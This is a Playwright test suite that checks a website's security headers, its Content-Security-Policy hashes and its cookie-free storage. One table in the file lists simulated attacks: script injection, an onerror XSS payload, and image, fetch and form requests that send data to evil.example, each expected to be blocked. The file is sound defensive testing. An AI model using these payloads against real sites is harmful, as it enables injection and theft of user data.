import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { buildSecurityHeaders, cacheHeaders } from '../src/build/plugins/security-headers';
import { tabs } from '../src/navigation';
import { hosts } from '../src/services/third-party-hosts';
import { ContactForm } from './support/contact-form';
import { expect, openSite, test } from './support/fixtures';
import { walk } from './support/full-visit';
import { appScripts, hold } from './support/network';
import { stage } from './support/third-party-stubs';

// What the site lets in, what it lets out, and what it leaves behind.

const env = { VITE_EMAILJS_PUBLIC_KEY: 'local-public-key' };
const builtPage = () => readFile('dist/index.html', 'utf8');

test('every answer carries the security headers, and is kept no longer than it is good for', async ({
  request,
}) => {
  const html = await builtPage();
  const asset = /assets\/[^"']+\.js/.exec(html)?.[0];
  const [assets, rest] = cacheHeaders;
  for (const [path, cache] of [
    ['/', rest.value],
    ['/no-script.css', rest.value],
    [`/${asset}`, assets.value],
  ] as const) {
    const headers = (await request.get(path)).headers();
    for (const [name, value] of Object.entries(buildSecurityHeaders(env, html)))
      expect(headers[name.toLowerCase()], `${name} of ${path}`).toBe(value);
    expect(headers['cache-control'], path).toBe(cache);
  }
});

test('the same headers are built for the hosts that read them from a file', async () => {
  const file = await readFile('dist/_headers', 'utf8');
  for (const [name, value] of Object.entries(buildSecurityHeaders(env, await builtPage())))
    expect(file).toContain(`\n  ${name}: ${value}\n`);
  expect(file).toContain('\n  Strict-Transport-Security: max-age=');
});

test('the page holds two scripts and one style, which the policy knows by their hashes, and no handler', async () => {
  const html = await builtPage();
  const { 'Content-Security-Policy': policy } = buildSecurityHeaders(env, html);
  expect(html.match(/<style/gi)).toHaveLength(1);
  expect(policy).toMatch(/style-src 'self' 'sha256-[\w+/]{43}=';/);
  expect(html.match(/<script>/gi)).toHaveLength(2);
  expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/]{43}='){2};/);
  expect(html).not.toMatch(/<script(?!>| src=| type="application\/ld\+json")/i);
  expect(html).not.toMatch(/<[^>]+\s(style|on\w+)=|javascript:|\snonce=/i);
});

test('a visit to everything breaks no rule of ours, and leaves no cookie and nothing stored', async ({
  page,
  context,
  allow,
}) => {
  allow.push(`request elsewhere: ${hosts.video}/`);
  await stage(context);
  await openSite(page);
  await walk(page);
  expect(await context.cookies()).toEqual([]);
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(stored).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
});

/** Where a browser knows trusted types, they stop a script before the rule for scripts does. */
const script = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;

/** What someone who got a foot in the door would try, and the rule that stops it. */
const attacks: Record<string, [rule: RegExp, attempt: (page: Page) => Promise<unknown>]> = {
  'an inline script': [script, (page) => page.evaluate(addScript, { text: '1' })],
  'a script from elsewhere': [
    script,
    (page) => page.evaluate(addScript, { src: 'https://evil.example/x.js' }),
  ],
  'markup with an event handler': [
    script,
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">');
      }),
  ],
  'text run as a script': [
    script,
    (page) => page.evaluate(() => setTimeout('window.wasRun = true')),
  ],
  'a style element': [
    /^style-src-elem$/,
    (page) =>
      page.evaluate(() => {
        const style = document.createElement('style');
        style.textContent = '* { display: none }';
        document.head.append(style);
      }),
  ],
  'a picture that carries something out': [
    /^img-src$/,
    (page) =>
      page.evaluate(() => {
        new Image().src = 'https://evil.example/?secret';
      }),
  ],
  'a call that carries something out': [
    /^connect-src$/,
    (page) => page.evaluate(() => void fetch('https://evil.example/').catch(() => {})),
  ],
  'a frame from elsewhere': [/^frame-src$/, (page) => page.evaluate(addFrame)],
  'a form that posts elsewhere': [
    /^form-action$/,
    (page) =>
      page.evaluate(() => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      }),
  ],
  'another base for the links': [
    /^base-uri$/,
    (page) =>
      page.evaluate(() => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      }),
  ],
};

test('every way in and out that is not ours is refused', async ({ site, allow }) => {
  allow.push('security policy', 'console error', 'uncaught', 'elsewhere: https://evil.example/');
  for (const [name, [rule, attempt]] of Object.entries(attacks)) {
    await test.step(name, async () => {
      const broken = site.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener(
              'securitypolicyviolation',
              ({ effectiveDirective }) => resolve(effectiveDirective),
              { once: true },
            ),
          ),
      );
      await attempt(site).catch(() => {});
      expect(await broken, name).toMatch(rule);
    });
  }
  expect(await site.evaluate(() => 'wasRun' in window)).toBe(false);
  expect(await site.evaluate(() => document.querySelectorAll('h1').length)).toBe(tabs.length);
});

test('nobody can put the site in a frame of their own', async ({
  page,
  context,
  allow,
  baseURL,
}) => {
  allow.push('frame-ancestors', 'request elsewhere: https://evil.example/', 'X-Frame-Options');
  await context.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  );
  await page.goto('https://evil.example/');
  await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
});

test('words before the page is ready never end up in its address', async ({ page }) => {
  const start = await hold(page, appScripts);
  await page.goto('/', { waitUntil: 'commit' });
  const form = new ContactForm(page);
  await page.locator('form[aria-labelledby]').waitFor({ state: 'attached' });
  await page.evaluate(() => document.getElementById('contact')?.removeAttribute('hidden'));
  await form.fields.message.fill('private words');
  await form.fields.from_name.press('Enter');
  expect(new URL(page.url()).search).toBe('');
  start();
});

function addScript(properties: { text?: string; src?: string }) {
  document.head.append(Object.assign(document.createElement('script'), properties));
}

function addFrame() {
  const frame = document.createElement('iframe');
  frame.src = 'https://evil.example/';
  document.body.append(frame);
}
